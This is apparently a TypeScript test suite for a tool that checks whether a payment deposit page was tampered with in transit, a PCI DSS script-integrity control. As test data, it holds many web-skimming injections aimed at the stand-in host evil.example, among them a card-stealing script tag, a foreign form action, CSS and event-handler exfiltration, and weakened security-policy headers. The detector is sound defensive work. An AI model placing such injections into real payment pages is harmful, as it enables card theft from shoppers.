/** `npm run page:probe`: detects changes of the payment page in transit (issue-9 4.6, PCI DSS 4 11.6.1). */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { theOneDatabaseKind } from '@modulor/testkit'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { probePage } from '../../src/doctor/probe-page'
import { readScriptInventory } from '../../src/features/page'
import { openTestService, type TestService } from './test-service'

/** The allowed sources of the demo's configuration: brands, their hosts and the provider. */
const ALLOWED = [
  // Its brand lists Google Pay.
  'https://pay.google.com',
  'http://localhost:8081',
  'http://127.0.0.1:8081',
  'localhost:8081',
  '127.0.0.1:8081',
  'http://localhost:9',
]

type Answered = { status: number; headers: Record<string, string>; body: Buffer }
/** Changes a response in transit. */
type Tamper = (path: string, answered: Answered) => Answered

const closers: (() => void)[] = []
afterEach(() => {
  for (const close of closers.splice(0)) close()
})

describe('the probe of the payment page', () => {
  let service: TestService
  beforeAll(async () => {
    service = await openTestService(theOneDatabaseKind())
  })
  afterAll(() => service.close())

  /** A proxy for the service that changes responses. */
  async function proxy(tamper: Tamper): Promise<string> {
    const server = createServer((request, reply) => {
      const path = request.url ?? '/'
      const sent = {
        method: request.method ?? 'GET',
        headers: { 'content-type': request.headers['content-type'] ?? '' },
      }
      void (async () => {
        const answer = await fetch(service.url + path, { ...sent, ...(sent.method === 'POST' ? { body: '' } : {}) })
        const headers = Object.fromEntries(
          [...answer.headers].filter(
            ([name]) => !/^(?:content-(?:encoding|length)|transfer-encoding|connection|keep-alive)$/.test(name),
          ),
        )
        const changed = tamper(path, { status: answer.status, headers, body: Buffer.from(await answer.arrayBuffer()) })
        reply.writeHead(changed.status, changed.headers).end(changed.body)
      })()
    }).listen(0, '127.0.0.1')
    closers.push(() => server.close().closeAllConnections())
    await new Promise((done) => server.once('listening', done))
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  }
  const inPage =
    (change: (html: string) => string): Tamper =>
    (path, answered) =>
      path.startsWith('/deposit')
        ? { ...answered, body: Buffer.from(change(answered.body.toString('utf8'))) }
        : answered
  const inHeaders =
    (change: Record<string, string | ((value: string) => string) | null>): Tamper =>
    (path, answered) => {
      if (!path.startsWith('/deposit')) return answered
      const headers = { ...answered.headers }
      for (const [name, value] of Object.entries(change))
        if (value === null) Reflect.deleteProperty(headers, name)
        else headers[name] = typeof value === 'string' ? value : value(headers[name] ?? '')
      return { ...answered, headers }
    }
  async function probe(address: string, allowedSources: readonly string[] = ALLOWED) {
    const inventory = await readScriptInventory(service.widgetDir)
    if (!inventory) throw new Error('no inventory')
    return probePage(address, { inventory, allowedSources })
  }
  const putIn = (text: string) => inPage((html) => html.replace('<div id="modulor">', `${text}$&`))
  const directive = (from: string | RegExp, to: string) =>
    inHeaders({ 'content-security-policy': (value) => value.replace(from, to) })

  it('issue-9 4.6 finds no difference in the service’s own page, with and without a session and a proxy', async () => {
    const session = await service.openSession()
    expect(await probe(`${service.url}/deposit`)).toEqual([])
    expect(await probe(`${service.url}/deposit?session_id=${session}&lang=en-COM`)).toEqual([])
    expect(await probe(`${await proxy((_path, answered) => answered)}/deposit?lang=en-HARBOUR`)).toEqual([])
  })

  it('issue-9 4.6 a policy that allows an origin that was not given is a difference', async () => {
    expect(await probe(`${service.url}/deposit`, ALLOWED.slice(0, 5))).toEqual(
      ['frame-src', 'form-action'].map(
        (name) => `/deposit: content-security-policy: ${name} allows http://localhost:9`,
      ),
    )
  })

  const skimmer = '<script src="https://evil.example/s.js?card=1"></script>'
  it.each<readonly [string, Tamper, string]>([
    ['an added script', putIn(skimmer), 'script: https://evil.example/s.js is not in the inventory'],
    [
      'one in capitals that does not end',
      inPage((html) => `${html}<SCRIPT SRC=//evil.example/s.js`),
      'script: http://evil.example/s.js is not',
    ],
    [
      'one behind a quoted bracket',
      putIn('<p title=">"></p><script\nsrc = //evil.example/s.js ></script>'),
      'script: http://evil.example/s.js is not',
    ],
    [
      'an added inline script',
      putIn('<script nonce="x">steal()</script>'),
      'script: an inline script is not in the inventory (sha256-',
    ],
    [
      'a changed inline script',
      inPage((html) => html.replace('/* early */', '/* early */ steal()')),
      'script: an inline script is not',
    ],
    [
      'a changed import map',
      inPage((html) => html.replace('>{}<', '>{"integrity":{}}<')),
      'script: the import map with the hashes of all scripts is missing',
    ],
    [
      'an entry that is gone',
      inPage((html) => html.replace(/<script type="module" crossorigin.*<\/script>/, '')),
      'script: /assets/main-1a2b.js is missing',
    ],
    [
      'an inlined script that is gone',
      inPage((html) => html.replace(/<script[^>]*>\/\* early \*\/<\/script>/, '')),
      'script: /assets/early-1a2b.js is missing',
    ],
    [
      'another integrity',
      inPage((html) => html.replace(/(main-1a2b\.js" integrity="sha256-)./, '$1_')),
      '/assets/main-1a2b.js does not have the integrity hash of the inventory',
    ],
    [
      'a file of the same origin that is not in the inventory',
      putIn('<script src="/assets/logos/x.js"></script>'),
      '/assets/logos/x.js is not in the inventory',
    ],
    [
      'an added style sheet',
      putIn('<link rel="stylesheet" href="https://evil.example/s.css">'),
      'link: https://evil.example/s.css is not',
    ],
    [
      'an added inline style',
      putIn('<style nonce="x">input{background:url(//evil.example)}</style>'),
      'style: an inline style is not',
    ],
    [
      'a foreign form action',
      putIn('<form action="https://evil.example/pay"><input name="card"></form>'),
      'form: goes to https://evil.example',
    ],
    ['a foreign action of a button', putIn('<form><button formaction="&#47;&#x2F;evil.example">'), 'form: goes to'],
    ['a frame', putIn('<iframe src="https://evil.example/"></iframe>'), 'element: iframe is not allowed'],
    ['another base', putIn('<base href="https://evil.example/">'), 'element: base is not allowed'],
    ['a handler', putIn('<img src=x onerror="steal()">'), 'element: a img has the attribute onerror'],
    ['a scripted link', putIn('<a href="javascript:steal()">x</a>'), 'element: a a has a script as its href'],
    [
      'a page’s own policy',
      putIn('<meta http-equiv="refresh" content="0;url=//evil.example">'),
      'element: meta with http-equiv is not allowed on the page',
    ],
    [
      'a policy that is gone',
      inHeaders({ 'content-security-policy': null }),
      'header: content-security-policy is missing',
    ],
    [
      'a source more for scripts',
      directive("script-src 'self'", "script-src 'self' https://evil.example"),
      'script-src allows https://evil.example',
    ],
    [
      'inline scripts for all',
      directive("script-src 'self'", "script-src 'self' 'unsafe-inline'"),
      "script-src allows 'unsafe-inline'",
    ],
    [
      'a source more for calls',
      directive("connect-src 'self'", "connect-src 'self' https://evil.example"),
      'connect-src allows https://evil.example',
    ],
    ['a form to elsewhere', directive("form-action 'self'", "form-action 'self' *"), 'form-action allows *'],
    ['no Trusted Types', directive("require-trusted-types-for 'script'; ", ''), 'require-trusted-types-for is missing'],
    [
      'a directive more',
      directive('default-src', 'script-src-elem *; default-src'),
      'content-security-policy: has script-src-elem',
    ],
    [
      'reports to elsewhere',
      inHeaders({ 'reporting-endpoints': 'page-reports="https://evil.example/"' }),
      'header: reporting-endpoints has another value',
    ],
    [
      'types that are guessed',
      inHeaders({ 'x-content-type-options': null }),
      'header: x-content-type-options is missing',
    ],
    [
      'a page that is kept',
      inHeaders({ 'cache-control': 'public, max-age=60' }),
      'header: cache-control has another value',
    ],
    [
      'a page that others may read',
      inHeaders({ 'access-control-allow-origin': '*' }),
      'header: access-control-allow-origin must not be sent',
    ],
    [
      'a nonce that stays',
      directive(/'nonce-[^']+'/g, `'nonce-${'A'.repeat(22)}=='`),
      'two answers have the same nonce',
    ],
  ])('issue-9 4.6 notices %s', async (_what, tamper, line) => {
    const lines = await probe(`${await proxy(tamper)}/deposit?session_id=cs_secret`)
    expect(lines).toContainEqual(expect.stringContaining(line))
    expect(lines.join('')).not.toContain('cs_secret')
  })

  it.each<readonly [string, Tamper, string]>([
    [
      'a changed script',
      (path, answered) => (path.endsWith('.js') ? { ...answered, body: Buffer.from('steal()') } : answered),
      '/assets/main-1a2b.js: does not have the hash of the inventory',
    ],
    [
      'a changed style sheet',
      (path, answered) => (path.endsWith('.css') ? { ...answered, body: Buffer.from('a{}') } : answered),
      '/assets/main-1a2b.css: does not have the hash',
    ],
    [
      'a script that is gone',
      (path, answered) => (path.endsWith('main-1a2b.js') ? { ...answered, status: 404 } : answered),
      '/assets/main-1a2b.js: answers 404',
    ],
    [
      'a page that leads away',
      (path, answered) =>
        path === '/deposit' ? { ...answered, status: 302, headers: { location: 'https://evil.example/' } } : answered,
      '/deposit: answers 302',
    ],
    [
      'a changed 3-D Secure page',
      (path, answered) =>
        path.includes('3ds_method')
          ? { ...answered, body: Buffer.from(`${answered.body.toString()}${skimmer}`) }
          : answered,
      '/payments/3ds_method/probe: script: https://evil.example/s.js is not',
    ],
  ])('issue-9 4.6 notices %s', async (_what, tamper, line) => {
    expect(await probe(`${await proxy(tamper)}/deposit`)).toContainEqual(expect.stringContaining(line))
  })

  it('issue-9 4.6 a timeout is a difference', async () => {
    const server = createServer(() => undefined).listen(0, '127.0.0.1')
    closers.push(() => server.close().closeAllConnections())
    await new Promise((done) => server.once('listening', done))
    const inventory = await readScriptInventory(service.widgetDir)
    if (!inventory) throw new Error('no inventory')
    const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/deposit`
    expect(await probePage(address, { inventory, allowedSources: [] }, 50)).toContain(
      '/deposit: does not answer in time',
    )
  })

  it('issue-9 4.6 an unreachable page is a difference', async () => {
    const lines = await probe('http://127.0.0.1:9/deposit')
    expect(lines).toContain('/deposit: no answer (unknown)')
  })
})
